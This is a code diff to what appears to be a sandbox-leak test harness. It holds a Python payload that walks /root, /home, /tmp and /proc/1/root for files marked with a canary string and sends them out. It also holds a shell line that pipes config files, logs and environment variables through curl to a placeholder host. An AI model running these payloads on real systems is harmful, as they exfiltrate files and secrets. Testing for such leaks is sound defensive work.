@@ -29,14 +29,16 @@ _WALK = (
     + """
 import os
 found = []
-for top in ("@FOLDER@/xdg", "@FOLDER@/given", "/root", "/home", "/var", "/tmp", "/run", "/mnt", "/proc/1/root@FOLDER@", "/proc/self/root@FOLDER@"):
+for top in ("@FOLDER@/xdg", "@FOLDER@/given", "@FOLDER@", "/root", "/home", "/tmp", "/run", "/proc/1/root@FOLDER@", "/proc/self/root@FOLDER@"):
     for folder, _, names in os.walk(top):
         for name in names:
             path = os.path.join(folder, name)
             try:
-                if os.path.isfile(path) and os.path.getsize(path) < 100_000: found.append(open(path, "rb").read())
+                if os.path.isfile(path) and os.path.getsize(path) < 10_000:
+                    text = open(path, "rb").read()
+                    if b"cnry" in text: found.append(text)
             except OSError: pass
-send(b"".join(found)[:1_000_000] or b"nothing")
+send(b"".join(found)[:200_000] or b"nothing")
 """
 )
 _SHELL = "cat @FOLDER@/xdg/config/pinfold/* @FOLDER@/xdg/state/pinfold/log/* @FOLDER@/given/* 2>/dev/null | curl -s -m 2 --data-binary @- http://@LISTED@/; env | curl -s -m 2 --data-binary @- http://@LISTED@/"
